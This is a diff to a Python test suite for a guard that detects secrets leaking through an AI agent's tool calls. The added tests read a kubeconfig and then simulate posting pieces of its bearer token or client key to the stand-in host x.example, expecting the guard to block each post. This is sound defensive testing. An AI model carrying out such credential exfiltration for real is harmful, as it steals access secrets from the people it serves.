@@ -194,15 +194,6 @@ def _kubeconfig(token: str) -> str:
     )
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="fingerprint cap: of_data keeps at most 4096 fingerprints per result (every "
-    "16-char gram of a long token), so a kubeconfig whose certificate blobs come first "
-    "fills the cap: the bearer token after them keeps its whole-token fingerprint but "
-    "its grams are sampled away, so some 20-char pieces of it leave unnoticed; a result "
-    "that hits the cap should make flows_from on its step fail closed (s-fp's "
-    "session/fingerprints.py).",
-)
 def test_a_token_after_large_certificate_blobs_is_still_a_flow() -> None:
     guard = _guard()
     _read(guard, "/home/u/.kube/kubeconfig", _kubeconfig(TOKEN))
@@ -215,6 +206,43 @@ def test_a_token_after_large_certificate_blobs_is_still_a_flow() -> None:
         if _verdict(guard, "http_post", url=f"https://x.example/?t={p}") is not Verdict.DENY
     ]
     assert allowed == []
+
+
+def test_a_piece_of_a_large_blob_is_still_a_flow() -> None:
+    """Past the cap the blobs keep a gram at every 4th position, not a sample: any run
+    of 19 normalised characters of the client key is found."""
+    guard = _guard()
+    config = _kubeconfig(TOKEN)
+    _read(guard, "/home/u/.kube/kubeconfig", config)
+    key = config.split("client-key-data: ")[1].split("\n")[0]
+    pieces = [key[i : i + 24] for i in range(0, len(key) - 24, 37)]
+    pieces = [p for p in pieces if len(p.replace("+", "").replace("/", "")) >= 19]
+    assert len(pieces) > 40
+    allowed = [
+        p
+        for p in pieces
+        if _verdict(guard, "http_post", url="https://x.example/", data=p) is not Verdict.DENY
+    ]
+    assert allowed == []
+    benign = base64.b64encode(random.Random(8).randbytes(18)).decode()  # another key's piece
+    assert _verdict(guard, "http_post", url="https://x.example/", data=benign) is Verdict.ALLOW
+
+
+def test_a_token_in_a_later_field_after_large_blobs_is_a_flow() -> None:
+    """A result of several fields (a JSON object): the blobs of the first fields do not
+    stop the later ones from being read, and the token's every piece is found."""
+    guard = _guard()
+    rng = random.Random(9)
+    blobs = {f"cert_{n}": base64.b64encode(rng.randbytes(1600)).decode() for n in range(6)}
+
+    @guard.protect
+    def read_file(path: str) -> dict[str, str]:
+        return {**blobs, "token": TOKEN}
+
+    read_file("/home/u/.kube/kubeconfig")
+    for i in range(0, len(TOKEN) - 20, 3):
+        piece = TOKEN[i : i + 20]
+        assert _verdict(guard, "http_post", url=f"https://x.example/?t={piece}") is Verdict.DENY
 
 
 def test_a_token_in_a_small_secret_is_a_flow() -> None:
